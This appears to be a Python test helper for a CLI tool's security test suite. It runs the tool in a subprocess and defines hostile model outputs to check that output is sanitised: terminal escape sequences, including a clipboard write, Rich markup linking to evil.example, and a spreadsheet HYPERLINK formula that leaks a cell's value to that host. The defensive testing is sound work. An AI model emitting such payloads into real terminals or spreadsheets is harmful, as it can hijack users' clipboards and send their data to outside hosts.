"""Helpers for the attack suite: run the real CLI in a subprocess, as an attacker's victim would."""

from __future__ import annotations

import os
import subprocess
import sys

# Answers a hostile or broken model may send: a lone surrogate, terminal escapes (colour, window
# title, OSC 52 clipboard write, screen clear, BEL, NUL), Rich markup and a spreadsheet formula.
HOSTILE = {
    "surrogate": "a\ud800b lone surrogate",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;pwned-title\x07 \x1b]52;c;cHduZWQ=\x07 \x1b[2J\x1b[H bell\x07 nul\x00 c1\x9b",
    "markup": "[/oops] [link=https://evil.example]click[/link] list[int] pip install 'distillq[hf]' [bold]b[/bold]",
    "formula": '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
}


def run_cli(
    *args: str, env: dict[str, str] | None = None, timeout: float = 300
) -> subprocess.CompletedProcess[str]:
    full = {**os.environ, "PYTHONIOENCODING": "utf-8", "COLUMNS": "400", **(env or {})}
    full.pop("FORCE_COLOR", None)
    return subprocess.run(
        [sys.executable, "-m", "distillq", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="strict",  # every output must be valid UTF-8
        env=full,
        timeout=timeout,
    )


def one_line_error(res: subprocess.CompletedProcess[str], code: int = 2) -> str:
    assert res.returncode == code, (res.returncode, res.stdout, res.stderr)
    assert "Traceback" not in res.stderr + res.stdout
    lines = [x for x in res.stderr.splitlines() if x.strip()]
    assert len(lines) == 1, res.stderr
    return lines[0]
